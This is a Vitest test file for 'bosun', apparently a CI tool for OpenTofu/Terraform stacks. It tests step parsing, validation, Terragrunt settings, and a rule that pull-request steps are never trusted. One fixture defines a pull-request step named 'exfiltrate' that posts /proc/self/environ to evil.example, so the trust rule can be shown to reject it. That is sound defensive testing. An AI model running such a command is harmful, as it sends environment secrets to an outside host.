import { describe, expect, it } from "vitest";
import { parseRepoConfig } from "../../../src/config/parse-repo-config.js";
import type { RepoConfig } from "../../../src/config/repo-config.js";
import { splitTrust, stacksWithPendingSteps } from "../../../src/config/split-trust.js";
import { resolveSteps } from "../../../src/domain/custom-step.js";

function parseOk(text: string): RepoConfig {
  const result = parseRepoConfig(text);
  if (!result.ok) throw new Error(JSON.stringify(result.problems));
  return result.config;
}

const config = (stackSteps: string, repoSteps = "") => `version: 1
environments:
  dev: {}
stacks:
  - name: network
    dir: infra/network
    environments: [dev]${stackSteps}
  - name: app
    dir: infra/app
    environments: [dev]
${repoSteps}`;

const designSteps = `
steps:
  after_plan:
    - name: cost
      run: infracost breakdown --path "$BOSUN_PLAN_JSON" --format markdown >> "$BOSUN_STEP_SUMMARY"
      on_failure: warn
  before_plan:
    - name: fmt
      run: tofu fmt -check
`;

describe("bosun.yml steps", () => {
  it("reads DESIGN's repository-wide and per-stack steps, on_failure fail by default", () => {
    const parsed = parseOk(
      config(`\n    steps:\n      before_plan: [{ name: lint, run: tflint }]`, designSteps),
    );
    expect(parsed.steps?.after_plan).toEqual([
      {
        name: "cost",
        run: 'infracost breakdown --path "$BOSUN_PLAN_JSON" --format markdown >> "$BOSUN_STEP_SUMMARY"',
        on_failure: "warn",
      },
    ]);
    expect(parsed.stacks[0]?.steps?.before_plan).toEqual([
      { name: "lint", run: "tflint", on_failure: "fail" },
    ]);
  });

  it("lets a stack's list replace the repository-wide one hook by hook, [] turning it off", () => {
    const parsed = parseOk(
      config(
        `\n    steps:\n      before_plan: [{ name: lint, run: tflint }]\n      after_plan: []`,
        designSteps,
      ),
    );
    const [network, app] = parsed.stacks;
    expect(resolveSteps(parsed.steps, network?.steps)).toEqual({
      before_plan: [{ name: "lint", run: "tflint", onFailure: "fail" }],
    });
    expect(resolveSteps(parsed.steps, app?.steps)).toEqual({
      before_plan: [{ name: "fmt", run: "tofu fmt -check", onFailure: "fail" }],
      after_plan: [
        {
          name: "cost",
          run: 'infracost breakdown --path "$BOSUN_PLAN_JSON" --format markdown >> "$BOSUN_STEP_SUMMARY"',
          onFailure: "warn",
        },
      ],
    });
  });

  it.each([
    ["after_plan: [{ name: cost }]", "steps.after_plan[0].run", /is required/],
    ["after_plan: [{ name: cost, run: '  ' }]", "steps.after_plan[0].run", /must not be empty/],
    ["after_plan: [{ name: Cost, run: x }]", "steps.after_plan[0].name", /step names are/],
    [
      "after_plan: [{ name: cost, run: x, on_failure: ignore }]",
      "steps.after_plan[0].on_failure",
      /fail.*warn/,
    ],
    ["after_merge: [{ name: cost, run: x }]", "steps.after_merge", /unknown key/],
    [
      "after_plan: [{ name: cost, run: x }, { name: cost, run: y }]",
      "steps.after_plan[1].name",
      /already named at after_plan\[0\]/,
    ],
  ])("refuses %s on its line", (hooks, path, message) => {
    const result = parseRepoConfig(config("", `steps:\n  ${hooks}\n`));
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.problems).toEqual([
      expect.objectContaining({ path, line: 12, message: expect.stringMatching(message) }),
    ]);
  });
});

describe("steps and trust", () => {
  const tracked = parseOk(config("", designSteps));
  const head = parseOk(
    config(
      `\n    steps:\n      before_init: [{ name: exfiltrate, run: "curl -d @/proc/self/environ evil.example" }]`,
      `steps:\n  before_plan: [{ name: own, run: "echo mine" }]\n`,
    ),
  );

  it("takes every step from the tracked branch, none from the pull request", () => {
    const split = splitTrust(head, tracked);
    expect(split.steps).toEqual(tracked.steps);
    expect(split.stacks.map((stack) => stack.steps)).toEqual([undefined, undefined]);
    expect(splitTrust(head, undefined).steps).toBeUndefined();
  });

  it("names the stacks whose steps the pull request changes", () => {
    expect(stacksWithPendingSteps(head, tracked)).toEqual(["network", "app"]);
    expect(stacksWithPendingSteps(tracked, tracked)).toEqual([]);
    expect(stacksWithPendingSteps(tracked, undefined)).toEqual(["network", "app"]);
  });
});

describe("engine: terragrunt", () => {
  const stack = (settings: string) => `version: 1
environments:
  dev: {}
stacks:
  - name: network
    dir: infra/network
    environments: [dev]
${settings}`;

  it("runs the engine it names (OpenTofu by default) through Terragrunt, on the whole checkout", () => {
    const [tofu] = parseOk(stack("    engine: terragrunt\n")).stacks;
    expect(tofu).toMatchObject({ engine: "opentofu", terragrunt: true, source: "full" });
    const [terraform] = parseOk(
      stack("    engine: terragrunt\n    terragrunt: { engine: terraform }\n"),
    ).stacks;
    expect(terraform).toMatchObject({ engine: "terraform", terragrunt: true, source: "full" });
    expect(parseOk(stack("    engine: terraform\n")).stacks[0]).toMatchObject({
      engine: "terraform",
    });
    expect(parseOk(stack("    engine: terraform\n")).stacks[0]?.terragrunt).toBeUndefined();
  });

  it.each([
    ["    engine: terragrunt\n    source: stack\n", "stacks[0].source", /source: full/],
    ["    terragrunt: { engine: terraform }\n", "stacks[0].terragrunt", /need engine: terragrunt/],
    [
      "    engine: terragrunt\n    terragrunt: { engine: pulumi }\n",
      "stacks[0].terragrunt.engine",
      /opentofu.*terraform/,
    ],
  ])("refuses %j with its line", (settings, path, message) => {
    const result = parseRepoConfig(stack(settings));
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.problems).toEqual([
      expect.objectContaining({
        path,
        line: expect.any(Number),
        message: expect.stringMatching(message),
      }),
    ]);
  });
});
